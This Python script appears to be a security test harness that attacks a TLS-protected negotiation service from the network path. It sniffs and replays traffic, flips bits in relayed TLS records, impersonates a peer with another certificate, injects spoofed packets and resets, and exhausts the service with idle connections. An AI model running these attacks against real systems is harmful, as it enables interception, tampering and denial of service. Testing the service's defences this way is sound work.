"""What somebody on the path between two negotiators can try: `attack.py TRICK ARGUMENT...`.

A trick that is over by itself fails where it got anywhere. One that goes on until it is ended (SIGTERM) writes what it
did to FILE, by which the one who looks knows that it did anything, and makes FILE.ready once it has begun.
"""

from __future__ import annotations

import os
import secrets
import signal
import socket
import ssl
import struct
import sys
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import suppress
from pathlib import Path

PEERS = 8470
PROXY = 9999
PART = 1400
IPV4 = 0x0800
SYN, RST, PUSH, ACK = 2, 4, 8, 16
CHANGE_CIPHER, ALERT, HANDSHAKE, DATA = 20, 21, 22, 23
REQUEST = b"POST /api/v1/handle_negotiation HTTP/1.1\r\nHost: x\r\nContent-Length: 2\r\n\r\n{}"
Place = tuple[str, int]
TURNED = {
    ("client", "hello"): (HANDSHAKE, 1),
    ("server", "hello"): (HANDSHAKE, 1),
    ("client", "proof"): (DATA, 1),
    ("server", "proof"): (DATA, 1),
    ("client", "word"): (DATA, 4),
    ("server", "word"): (DATA, 6),
}
"""Which record it is: the rest of a handshake is encrypted, before the first word that is said."""


class Segment:
    """A TCP segment as it was on the wire."""

    def __init__(self, packet: bytes) -> None:
        """`packet`: from the IP header on."""
        header = (packet[0] & 15) * 4
        length = struct.unpack_from("!H", packet, 2)[0]
        self.packet = packet[:length]
        ports = struct.unpack_from("!HH", packet, header)
        self.source = socket.inet_ntoa(packet[12:16]), ports[0]
        self.to = socket.inet_ntoa(packet[16:20]), ports[1]
        self.number = struct.unpack_from("!I", packet, header + 4)[0]
        self.flags = packet[header + 13]
        self.head = packet[header : header + (packet[header + 12] >> 4) * 4]
        self.payload = packet[header + len(self.head) : length]

    def packets(self, payload: bytes, flags: int) -> Iterator[bytes]:
        """The same again with another payload and flags, cut to what fits."""
        for at in range(0, max(len(payload), 1), PART):
            part = payload[at : at + PART]
            number = struct.pack("!I", (self.number + at) % 2**32)
            tcp = (
                self.head[:4] + number + self.head[8:13] + bytes([flags]) + self.head[14:16] + b"\0\0" + self.head[18:]
            )
            ends = self.packet[12:20]
            pseudo = ends + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp + part))
            tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp + part)) + tcp[18:]
            yield (
                struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp + part), 0, 0, 60, socket.IPPROTO_TCP, 0)
                + ends
                + tcp
                + part
            )


def passing(file: str) -> Iterator[Segment]:
    """Every segment to or from a negotiator's port that comes by."""
    tap = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(IPV4))
    begun(file)
    while True:
        packet, origin = tap.recvfrom(65536)
        if origin[2] != socket.PACKET_OUTGOING and packet[9] == socket.IPPROTO_TCP:
            segment = Segment(packet)
            if PEERS in (segment.source[1], segment.to[1]):
                yield segment


def checksum(octets: bytes) -> int:
    """RFC 1071."""
    total: int = sum(struct.unpack(f"!{(len(octets) + 1) // 2}H", octets + b"\0" * (len(octets) % 2)))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def put(packet: bytes) -> None:
    """Send a whole IP packet, whoever it says it is from."""
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as out:
        out.sendto(packet, (socket.inet_ntoa(packet[16:20]), 0))


# --- listen, read, replay ---------------------------------------------------------------------------------------------


def listen(file: str) -> None:
    """Write down all that comes by, as tcpdump would."""
    with open(file, "wb", buffering=0) as out:
        out.write(struct.pack("=IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, 65535, 101))
        for segment in passing(file):
            out.write(
                struct.pack("=IIII", int(time.time()), 0, len(segment.packet), len(segment.packet)) + segment.packet
            )


def heard(file: str) -> list[Segment]:
    """What `listen` has written down."""
    octets, at, found = Path(file).read_bytes(), 24, []
    while at + 16 <= len(octets):
        size = struct.unpack_from("=I", octets, at + 8)[0]
        found.append(Segment(octets[at + 16 : at + 16 + size]))
        at += 16 + size
    return found


def streams(segments: list[Segment]) -> dict[tuple[Place, Place], bytes]:
    """What each side said on each connection whose begin was heard, in order."""
    said: dict[tuple[Place, Place], tuple[int, dict[int, bytes]]] = {}
    for segment in segments:
        ends = segment.source, segment.to
        if segment.flags & SYN:
            said[ends] = segment.number + 1, {}
        elif ends in said and segment.payload:
            begin, parts = said[ends]
            at = (segment.number - begin) % 2**32
            parts[at] = max(parts.get(at, b""), segment.payload, key=len)
    whole = {}
    for ends, (_, parts) in said.items():
        stream = b""
        for at in sorted(parts):
            if at <= len(stream):
                stream += parts[at][len(stream) - at :]
        whole[ends] = stream
    return whole


def records(stream: bytes) -> Iterator[tuple[int, bytes]]:
    """The TLS records of a stream (RFC 8446 section 5.1). Raises ValueError where there are none."""
    while stream:
        kind, version, size = struct.unpack_from("!BHH", stream.ljust(5, b"\0"))
        if kind not in (CHANGE_CIPHER, ALERT, HANDSHAKE, DATA) or version not in (0x0301, 0x0303):
            raise ValueError(f"no TLS: {stream[:16]!r}")
        yield kind, stream[5 : 5 + size]
        stream = stream[5 + size :]


def read(file: str, *words: str) -> int:
    """Try to make sense of it: nothing but TLS, encrypted but for both hellos, and none of the words."""
    found = streams(heard(file))
    octets, trouble = 0, []
    for (source, to), stream in found.items():
        in_clear = 0
        try:
            for kind, body in records(stream):
                octets += len(body) if kind == DATA else 0
                in_clear += kind == HANDSHAKE
        except ValueError as wrong:
            trouble.append(f"{source} to {to}: {wrong}")
        if in_clear > 1:
            trouble.append(f"{source} to {to}: {in_clear} parts of a handshake in the clear")
        trouble += [f"{source} to {to}: says {word}" for word in words if word.encode() in stream]
    print(*trouble, f"{len(found)} streams, {octets} octets of ciphertext", sep="\n")
    return 1 if trouble or octets < 5000 else 0


def replay(file: str, host: str) -> int:
    """Say all of it again: each packet as it was, then what each client said on a connection of its own."""
    segments = heard(file)
    for segment in segments:
        put(segment.packet)
    said = [stream for (_, to), stream in streams(segments).items() if to == (host, PEERS) and stream]
    for stream in said:
        with socket.create_connection((host, PEERS), timeout=8) as again, suppress(ConnectionError):
            again.sendall(stream)
            while again.recv(65536):  # until it hangs up; that it does not is a TimeoutError
                pass
    print(f"{len(segments)} packets and {len(said)} streams again")
    return 0 if segments and said else 1


# --- alter ------------------------------------------------------------------------------------------------------------


def alter(file: str, host: str, whose: str, what: str) -> None:
    """Stand in between, and turn one bit in each connection: of the `what` that the `whose` says (TURNED)."""
    kind, place = TURNED[whose, what]

    def turned(body: bytes) -> bytes:
        at = min(len(body) - 1, 40)
        return body[:at] + bytes([body[at] ^ 1]) + body[at + 1 :]

    def carry(source: socket.socket, to: socket.socket, *, theirs: bool) -> None:
        stream, seen = b"", 0
        with suppress(OSError):
            while part := source.recv(65536):
                stream += part
                while len(stream) >= 5 and len(stream) >= 5 + (size := struct.unpack_from("!H", stream, 3)[0]):
                    head, body, stream = stream[:5], stream[5 : 5 + size], stream[5 + size :]
                    seen += head[0] == kind
                    if theirs and head[0] == kind and seen == place:
                        body = turned(body)
                        note(file, f"the {whose}'s {what}")
                    to.sendall(head + body)
        with suppress(OSError):
            to.shutdown(socket.SHUT_RDWR)

    def between(client: socket.socket) -> None:
        server = socket.create_connection((host, PEERS))
        for one, other, name in ((client, server, "client"), (server, client, "server")):
            threading.Thread(target=carry, args=(one, other), kwargs={"theirs": name == whose}, daemon=True).start()

    attend(file, between)


def impersonate(file: str, folder: str) -> None:
    """Answer in the place of another, with a certificate that has its name; what the client says to that."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(Path(folder, "certificate.pem"), Path(folder, "key.pem"))

    def answer(client: socket.socket) -> None:
        try:
            with context.wrap_socket(client, server_side=True) as talk:
                note(file, f"it says {talk.recv(65536)!r}")
        except OSError as refused:
            note(file, f"it hangs up: {refused}")

    attend(file, answer)


def attend(file: str, meet: Callable[[socket.socket], None]) -> None:
    """Serve the connections that are turned over to us."""
    with socket.create_server(("", PROXY)) as server:
        begun(file)
        while True:
            threading.Thread(target=meet, args=(server.accept()[0],), daemon=True).start()


def begun(file: str) -> None:
    """From now on it goes on."""
    Path(f"{file}.ready").touch()


def note(file: str, text: str) -> None:
    """One line more."""
    with open(file, "a", encoding="utf-8") as out:
        out.write(f"{text}\n")


# --- forge ------------------------------------------------------------------------------------------------------------


def inject(file: str, times: str) -> None:
    """Carry all packets by hand (the machine must not), and in so many connections put one of ours in place of a word.

    In turn it is data and a reset, both as they would have to be at that place.
    """
    broken: list[Place] = []
    for segment in passing(file):
        payload, flags = segment.payload, segment.flags
        word = segment.to[1] == PEERS and payload[:1] == bytes([DATA])
        if word and segment.source not in broken and len(broken) < int(times):
            broken.append(segment.source)
            reset = len(broken) % 2 == 0
            payload = b"" if reset else struct.pack("!BHH", DATA, 0x0303, 64) + secrets.token_bytes(64)
            flags = RST | ACK if reset else PUSH | ACK
            note(file, f"{'a reset' if reset else 'data'} in the name of {segment.source}")
        for packet in segment.packets(payload, flags):
            put(packet)


def knock(host: str, folder: str) -> int:
    """Come as who we are not: nobody may be answered. `folder`: an identity with the name of a member."""
    tries = {
        "in the clear": None,
        "garbage": None,
        "without a certificate": tls(),
        "with another's name": tls(folder),
        "with TLS 1.2": tls(folder, ssl.TLSVersion.TLSv1_2),
    }
    answered = []
    for name, context in tries.items():
        answer = b""
        try:
            with socket.create_connection((host, PEERS), timeout=8) as plain, suppress(ConnectionError):
                talk = plain if context is None else context.wrap_socket(plain)
                talk.sendall(secrets.token_bytes(2000) if name == "garbage" else REQUEST)
                while part := talk.recv(65536):
                    answer += part
            how = "it hangs up"
        except ssl.SSLError as refused:
            how = refused.reason or str(refused)
        print(f"{name}: {how} {answer!r}")
        if b"HTTP" in answer or (answer and context is not None):
            answered.append(name)
    return 1 if answered else 0


def tls(folder: str | None = None, version: ssl.TLSVersion = ssl.TLSVersion.TLSv1_3) -> ssl.SSLContext:
    """A client that believes everything."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.minimum_version = context.maximum_version = version
    if folder is not None:
        context.load_cert_chain(Path(folder, "certificate.pem"), Path(folder, "key.pem"))
    return context


def crowd(file: str, host: str, size: str) -> None:
    """Take up so many connections and say nothing, and again when they are cut."""
    silent: list[socket.socket] = []
    while True:
        while len(silent) < int(size):
            one = socket.create_connection((host, PEERS), timeout=8)
            one.setblocking(False)
            silent.append(one)
        note(file, f"{len(silent)} connections")
        begun(file)
        time.sleep(0.2)
        silent = [one for one in silent if not over(one)]


def over(connection: socket.socket) -> bool:
    """Whether the other side has hung up."""
    try:
        if connection.recv(65536):
            return False
    except BlockingIOError:
        return False
    except OSError:
        pass
    connection.close()
    return True


TRICKS = {each.__name__: each for each in (listen, read, replay, alter, impersonate, inject, knock, crowd)}

if __name__ == "__main__":
    signal.signal(signal.SIGTERM, lambda *_: os._exit(0))
    sys.exit(TRICKS[sys.argv[1]](*sys.argv[2:]))
